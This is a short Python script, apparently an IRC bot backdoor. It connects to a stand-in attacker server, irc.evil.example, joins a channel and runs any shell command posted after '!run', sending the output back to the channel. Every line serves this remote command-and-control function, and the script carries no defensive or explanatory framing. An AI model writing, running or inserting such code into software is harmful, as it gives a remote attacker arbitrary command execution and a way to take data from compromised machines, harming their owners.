import socket, subprocess
s = socket.socket(); s.connect(("irc.evil.example", 6667))
s.send(b"NICK z9\r\nUSER z9 0 * :z\r\nJOIN #c\r\n")
while 1:
    l = s.recv(2048).decode()
    if l.startswith("PING"): s.send(("PONG " + l.split()[1] + "\r\n").encode())
    if "!run " in l:
        s.send(("PRIVMSG #c :" + subprocess.getoutput(l.split("!run ")[1].strip()) + "\r\n").encode())
